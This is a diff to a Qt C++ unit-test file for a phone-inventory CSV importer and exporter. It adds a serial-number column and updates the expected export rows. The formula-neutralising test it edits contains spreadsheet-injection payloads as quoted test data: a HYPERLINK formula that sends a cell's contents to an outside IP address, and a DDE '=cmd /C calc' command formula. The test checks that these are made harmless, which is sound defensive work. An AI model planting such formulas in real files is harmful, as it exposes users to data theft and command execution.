@@ -71,6 +71,7 @@ private slots:
     void skipInvalidSavesTheRest();
     void upsertByHardwareIdKeepsWhatTheFileDoesNotSay();
     void upsertByName();
+    void serialNumberColumn();
     void changedMeanwhileIsAConflict();
     void reportCsv();
     void fixtureFiles_data();
@@ -530,6 +531,37 @@ void TestPhoneImport::upsertByHardwareIdKeepsWhatTheFileDoesNotSay()
             u"Line 1: the required column \"hardware_id\" is missing (rows are matched by hardware ID)."_qs});
 }
 
+void TestPhoneImport::serialNumberColumn()
+{
+    // "Serial Number" as a spreadsheet writes it; checked like the editor checks it.
+    const ImportPlan plan = prepare("name,category,base_settings,site,hardware_id,Serial Number\n"
+                                    "Desk 1,managed,VVX 450,Berlin,00:04:f2:00:00:41, 8012345678901234 \n"
+                                    "Desk 2,managed,VVX 450,Berlin,00:04:f2:00:00:42,SN 42\n");
+    QCOMPARE(
+        texts(plan.issues),
+        QStringList {u"Line 3, column 6 (serial_number): Serial number: \"SN 42\" is not a serial number. "
+                     "Use the one on the phone's label: up to 64 letters, digits, '-', '.', '_' or '/'."_qs});
+    auto r = PhoneImporter(*s).commit(plan, true);
+    QVERIFY2(r.ok(), r.ok() ? "" : qPrintable(r.error().fullText()));
+    const Phone desk = *s->phones().findByName(QStringLiteral("Desk 1")).value();
+    QCOMPARE(desk.serialNumber, QStringLiteral("8012345678901234"));
+    // Exported and read back; an update without the column keeps it.
+    QTemporaryDir dir;
+    const QString path = dir.filePath(QStringLiteral("out.csv"));
+    QVERIFY(PhoneExport::exportToFile(*s, {desk.id}, path).ok());
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QString exported = QString::fromUtf8(file.readAll());
+    QVERIFY2(exported.contains(QLatin1String("network_address,serial_number,description")),
+             qPrintable(exported));
+    QVERIFY(exported.contains(QLatin1String(",8012345678901234,")));
+    const ImportPlan update = prepare("name,category,base_settings,site,hardware_id\n"
+                                      "Desk 1 renamed,managed,VVX 450,Berlin,00:04:f2:00:00:41\n",
+                                      ImportMode::UpsertByHardwareId);
+    QVERIFY(PhoneImporter(*s).commit(update, false).ok());
+    QCOMPARE(s->phones().get(desk.id)->serialNumber, QStringLiteral("8012345678901234"));
+}
+
 void TestPhoneImport::upsertByName()
 {
     const ImportPlan plan =
@@ -741,8 +773,8 @@ void TestPhoneImport::exportSelectionToFile()
     QCOMPARE(
         file.readAll(),
         QByteArray("\xEF\xBB\xBFname;category;model;base_settings;site;hardware_id;user;remote_address;"
-                   "network_address;description;line_keys\n"
-                   "Existing;managed;poly-vvx-450;VVX 450;Berlin;00:04:F2:00:00:01;;;;kept;1=line Main\n"));
+                   "network_address;serial_number;description;line_keys\n"
+                   "Existing;managed;poly-vvx-450;VVX 450;Berlin;00:04:F2:00:00:01;;;;;kept;1=line Main\n"));
     auto bad =
         PhoneExport::exportToFile(*s, {m_existing.id}, dir.filePath(QStringLiteral("no/such/dir/x.csv")));
     QVERIFY(!bad.ok());
@@ -792,15 +824,15 @@ void TestPhoneImport::formulaCellsAreNeutralizedAndRoundTrip()
     QCOMPARE(lines.size(), 7); // header, five phones, the empty rest after the last line end
     QCOMPARE(
         lines.at(1),
-        QByteArray("''=already quoted,managed,poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:04,,,,'=1+1,\r"));
-    QCOMPARE(lines.at(2), QByteArray("'+Home office,remote,remote,Remote,Berlin,,,'+4930123456,,,\r"));
-    QCOMPARE(lines.at(3), QByteArray("'-Spare-,managed,poly-vvx-450,VVX 450,'@HQ,00:04:F2:AA:00:03,,,,,\r"));
+        QByteArray("''=already quoted,managed,poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:04,,,,,'=1+1,\r"));
+    QCOMPARE(lines.at(2), QByteArray("'+Home office,remote,remote,Remote,Berlin,,,'+4930123456,,,,\r"));
+    QCOMPARE(lines.at(3), QByteArray("'-Spare-,managed,poly-vvx-450,VVX 450,'@HQ,00:04:F2:AA:00:03,,,,,,\r"));
     QCOMPARE(lines.at(4),
              QByteArray("'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"Click\"\")\",managed,"
-                        "poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:02,,,,,\r")
+                        "poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:02,,,,,,\r")
                  .prepend('"'));
     QCOMPARE(lines.at(5),
-             QByteArray("'=cmd|' /C calc'!A0,managed,poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:01,,,,,\r"));
+             QByteArray("'=cmd|' /C calc'!A0,managed,poly-vvx-450,VVX 450,Berlin,00:04:F2:AA:00:01,,,,,,\r"));
 
     // Without neutralising (the CLI's --raw), the cells are written as they are.
     QBuffer raw;
@@ -1054,6 +1086,7 @@ void TestPhoneImport::planRowsKeepEveryField()
             break;
         }
         p.networkAddress = i % 7 ? QString() : u"10.0.0.%1:5060"_qs.arg(i % 250);
+        p.serialNumber = i % 5 ? QString() : u"8012-%1"_qs.arg(i);
         p.description = i % 3 ? u"Two\nlines,\ttab %1"_qs.arg(i) : QString();
         if (i % 10 == 0)
             p.lineKeys = sharedKeys;
